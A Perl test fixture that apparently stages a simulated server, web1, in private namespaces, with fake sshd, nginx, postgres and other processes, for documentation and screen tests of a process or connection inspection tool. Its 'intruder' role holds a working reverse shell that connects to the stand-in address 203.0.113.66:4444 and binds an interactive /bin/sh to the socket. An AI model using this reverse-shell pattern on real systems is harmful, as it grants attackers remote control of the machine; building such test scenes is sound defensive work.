# The stage of tests/docs.bats and tests/screens: runs as process 1 in its own
# namespaces, sets up the machine web1 there, then runs its arguments.  Files go
# to $BATS_TEST_TMPDIR, the programs' $HOME too.
use strict;
use warnings;
use POSIX qw(WUNTRACED);
use Socket qw(:DEFAULT inet_pton IPV6_V6ONLY IPPROTO_IPV6);

my $bin = '/usr/local/sbin';	# where the stand-ins are, on the stage

sub put {
	my ($path, $text) = @_;
	open my $f, '>', $path or die "$path: $!";
	print $f $text;
	close $f or die "$path: $!";
}

sub run {
	system(@_) == 0 or die "@_: failed";
}

# --- the stand-ins

sub address {
	my ($addr, $port) = @_;
	return pack_sockaddr_in6($port, inet_pton(AF_INET6, $addr))
	    if $addr =~ /:/;
	return pack_sockaddr_in($port, inet_pton(AF_INET, $addr));
}

my @open;	# perl closes what no one refers to

sub bound {
	my ($type, $addr, $port) = @_;
	my $family = $addr =~ /:/ ? AF_INET6 : AF_INET;
	socket my $s, $family, $type, 0 or die "socket: $!";
	setsockopt $s, SOL_SOCKET, SO_REUSEADDR, 1;
	setsockopt $s, IPPROTO_IPV6, IPV6_V6ONLY, 1 if $addr =~ /:/;
	bind $s, address($addr, $port) or die "bind $addr $port: $!";
	push @open, $s;
	return $s;
}

sub listener {
	my $s = bound(SOCK_STREAM, @_);
	listen $s, 16 or die "listen: $!";
	return $s;
}

sub connection {
	my ($addr, $port, $remote, $rport) = @_;
	my $s = bound(SOCK_STREAM, $addr, $port);
	connect $s, address($remote, $rport) or die "connect $remote: $!";
	return $s;
}

# Changes the effective user; without root, /proc/self/comm cannot be written.
sub become {
	my ($uid) = @_;
	$> = $uid;
	$> == $uid or die "seteuid: $!";
}

# Setting $0 sets the name too.
sub title {
	my ($name, $cmdline) = @_;
	my $uid = $>;
	become(0);
	$0 = $cmdline;
	put('/proc/self/comm', $name);
	become($uid);
}

# Stops until the process that waits for this wakes it.
sub ready {
	kill STOP => $$;
}

sub woken {
	my ($pid) = @_;
	waitpid $pid, WUNTRACED;
	kill CONT => $pid or die "$pid: has ended";
}

sub child {
	my ($play) = @_;
	my $pid = fork // die "fork: $!";
	if (!$pid) {
		$play->();
		ready();
		sleep 1000 while 1;
	}
	woken($pid);
}

# Accepts one connection, and then acts as asked.
sub serve {
	my ($listener, $play) = @_;
	local $SIG{USR1} = sub {
		accept my $s, $listener or die "accept: $!";
		child(sub {
			close $_ for splice @open;
			$play->();
		});
		close $s;
		ready();
	};
	ready();
	sleep 1000 while 1;
}

my %role = (
	chronyd => sub {
		title('chronyd', '/usr/local/sbin/chronyd -F 1');
		bound(SOCK_DGRAM, '127.0.0.1', 323);
	},
	sshd => sub {
		title('sshd', 'sshd: /usr/local/sbin/sshd -D [listener]');
		my $s = listener('0.0.0.0', 22);
		listener('::', 22);
		serve($s, sub { title('sshd', 'sshd: alice [priv]') });
	},
	nginx => sub {
		title('nginx', 'nginx: master process');
		listener('0.0.0.0', 80);
		child(sub {
			become(33);
			title('nginx', 'nginx: worker process');
		});
	},
	postgres => sub {
		title('postgres', 'postgres -D /var/lib/postgresql/15/main');
		become(108);
		my $s = listener('127.0.0.1', 5432);
		serve($s, sub { title('postgres',
		    'postgres: shop shop 127.0.0.1(40112) idle') });
	},
	python3 => sub {
		become(1000);
		title('python3', 'python3 -m http.server 8080');
		listener('0.0.0.0', 8080);
	},
	worker => sub {
		become(1000);
		title('worker', 'worker --queue mail');
		connection('127.0.0.1', 40112, '127.0.0.1', 5432);
	},
	intruder => sub {
		become(1000);
		my $s = connection('192.0.2.10', 43310, '203.0.113.66', 4444);
		POSIX::dup2(fileno $s, $_) for 0 .. 2;
		become(0);
		POSIX::setuid(1000) or die "setuid: $!";
		ready();
		exec '/bin/sh', '-i';
	},
	far => sub { listener('0.0.0.0', 4444) },
	client => sub { connection('198.51.100.7', 50022, '192.0.2.10', 22) },
);

if ($ARGV[0] eq '--role') {
	$role{$ARGV[1]}->();
	ready();
	sleep 1000 while 1;
}

# --- the stage

# Makes N the pid of the next process.
sub number {
	my ($next) = @_;
	while (1) {
		my $pid = fork // die "fork: $!";
		POSIX::_exit(0) if !$pid;
		waitpid $pid, 0;
		die "process $next: $pid was had already" if $pid >= $next;
		return if $pid == $next - 1;
	}
}

sub start {
	my ($pid, $role, @how) = @_;
	number($pid) if $pid;
	my $child = fork // die "fork: $!";
	if (!$child) {
		chdir '/';
		exec @how, -x "$bin/$role" ? "$bin/$role" : $^X, $stage::path,
		    '--role', $role;
		die "exec: $!";
	}
	woken($child);
	return $child;
}

$stage::path = $0;
put('/proc/sys/kernel/hostname', 'web1');
my $dir = $ENV{BATS_TEST_TMPDIR};
put("$dir/passwd", join '', map { "$_:/:/bin/sh\n" } 'root:x:0:0:',
    'www-data:x:33:33:', 'postgres:x:108:108:', 'alice:x:1000:1000:');
put("$dir/services", '');
mkdir "$dir/sbin";
for my $name (qw(chronyd sshd nginx postgres python3 worker)) {
	run('cp', $^X, "$dir/sbin/$name");
}
run('mount', '--bind', "$dir/sbin", $bin);
run('mount', '--bind', "$dir/$_", "/etc/$_") for qw(passwd services);
$ENV{HOME} = "$dir/home";
mkdir $ENV{HOME};
chdir $ENV{HOME};

run(qw(ip link set lo up));
my $far = start(0, 'far', 'unshare', '-n', '--');
my @there = ('nsenter', '-t', $far, '-n', '--');
run(qw(ip link add eth0 type veth peer name eth0 netns), $far);
run(qw(ip address add 192.0.2.10/24 dev eth0));
run(qw(ip link set eth0 up));
run(qw(ip route add default via 192.0.2.1));
run(@there, qw(ip address add), "$_", qw(dev eth0))
    for qw(192.0.2.1/24 198.51.100.7/32 203.0.113.66/32);
run(@there, qw(ip link set eth0 up));

put('/proc/self/comm', 'systemd');
start(620, 'chronyd');
my $sshd = start(712, 'sshd');
start(840, 'nginx');
my $postgres = start(905, 'postgres');
start(1350, 'python3');
start(0, 'client', @there);
number(1490);
kill USR1 => $sshd;
woken($sshd);
start(1501, 'worker');
kill USR1 => $postgres;
woken($postgres);
my $intruder = start(1871, 'intruder');
for (1 .. 500) {
	open my $f, '<', "/proc/$intruder/comm" or die "$intruder: $!";
	last if <$f> eq "sh\n";
	select undef, undef, undef, 0.01;
}

# All other processes end with this one.
exit(system(@ARGV) >> 8);
